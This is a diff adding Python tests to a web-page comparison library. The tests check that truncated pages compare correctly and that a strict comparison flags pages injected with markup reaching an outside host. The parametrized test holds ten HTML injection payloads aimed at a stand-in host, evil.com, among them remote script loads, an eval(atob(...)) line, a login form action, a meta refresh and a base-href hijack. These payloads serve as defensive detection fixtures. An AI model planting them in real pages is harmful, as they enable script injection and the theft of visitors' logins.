@@ -2,11 +2,14 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from ronda.grid.comparing import Outcome, Rung, Seen, compare
+from ronda.grid.page_reach import reach_of
 from ronda.grid.text_similarity import similarity, visible_text
 
 WORDS = ("harbour", "council", "pier", "boats", "nets", "prices", "weather", "ferries", "talk", "old", "and")
@@ -76,6 +79,59 @@ def test_cut_off_body_says_nothing() -> None:
     assert verdict(page("x"), cut) == (Outcome.INCONCLUSIVE, Rung.DIGEST)
 
 
+def strictly(a: Seen, b: Seen) -> tuple[Outcome, Rung]:
+    assert compare(a, b, is_strict=True) == compare(b, a, is_strict=True)
+    verdict = compare(a, b, is_strict=True)
+    return verdict.outcome, verdict.rung
+
+
+def cut(seen: Seen, length: int) -> Seen:
+    body = seen.load()[:length]
+    return replace(seen, load=lambda: body, payload_digest=f"sha256:{hash(body)}", is_truncated=True)
+
+
+def test_who_alone_breaks_off_has_another_page() -> None:
+    whole, other = article(), article(text="something else " * 300)
+    assert strictly(whole, cut(whole, 300)) == (Outcome.DIFFER, Rung.LENGTH)
+    assert strictly(whole, cut(whole, 0)) == (Outcome.DIFFER, Rung.LENGTH)
+    assert strictly(cut(whole, 400), cut(whole, 300)) == (Outcome.MATCH, Rung.LENGTH)
+    assert strictly(cut(whole, 400), cut(other, 400))[0] is Outcome.DIFFER
+    assert strictly(whole, replace(whole, payload_digest="sha256:1", is_truncated=True))[0] is Outcome.MATCH
+
+
+@pytest.mark.parametrize(
+    "injected",
+    [
+        "<script src=//evil.com/x.js></script>",
+        "<SCRIPT>location='https:\\/\\/evil.com'</SCRIPT>",
+        "<script>eval(atob('YWxlcnQoMSk='))</script>",
+        "<iframe alt='>' src='&#47;/evil.com'></iframe>",
+        "<link rel=stylesheet href=https://evil.com/a.css>",
+        "<form action=https://evil.com/login></form>",
+        "<object data=https://evil.com/></object>",
+        "<meta http-equiv=refresh content='0;url=https://evil.com/'>",
+        "<b onmouseover=steal()></b>",
+        "<base href=//evil.com>",
+    ],
+)
+def test_page_that_reads_the_same_and_does_something_else(injected: str) -> None:
+    clean, evil = (
+        article("12:00"),
+        page(article("12:01").load().decode().replace("<aside>", f"{injected}<aside>")),
+    )
+    assert strictly(clean, evil) == (Outcome.DIFFER, Rung.REACH)
+    assert verdict(clean, evil) == (Outcome.MATCH, Rung.TEXT), (
+        "between countries only what people read counts"
+    )
+    assert strictly(article("12:00"), article("23:59:59.123")) == (Outcome.MATCH, Rung.TEXT)
+
+
+def test_a_sites_own_hosts_are_its_own() -> None:
+    html = "<script src=//cdn{}.shop.co.uk/a.js></script><p>{}</p>"
+    seen = [page(html.format(n, ARTICLE), location="http://www.shop.co.uk/") for n in (1, 2)]
+    assert strictly(*seen) == (Outcome.MATCH, Rung.TEXT)
+
+
 def test_text_that_counts() -> None:
     markup = "a<!-- no --><SCRIPT>no</SCRIPT ><b>b</b> 1 < 2 <style>no</style>c<script>no"
     assert visible_text(markup).split() == ["a", "b", "1", "2", "c"]
@@ -85,6 +141,7 @@ def test_hostile_markup_is_read_in_one_pass() -> None:
     """The quadratic way would take hours."""
     for piece in (b"<script", b"<", b"<!--", b"</", b"<a ", b"&amp", b"<svg><svg/", b"word ", "İ".encode()):
         assert similarity(piece * 200_000, piece * 199_999 + b"x", is_markup=True) >= 0
+        reach_of(piece * 200_000, "a.example")
 
 
 @given(st.binary(max_size=300), st.binary(max_size=300), st.booleans())
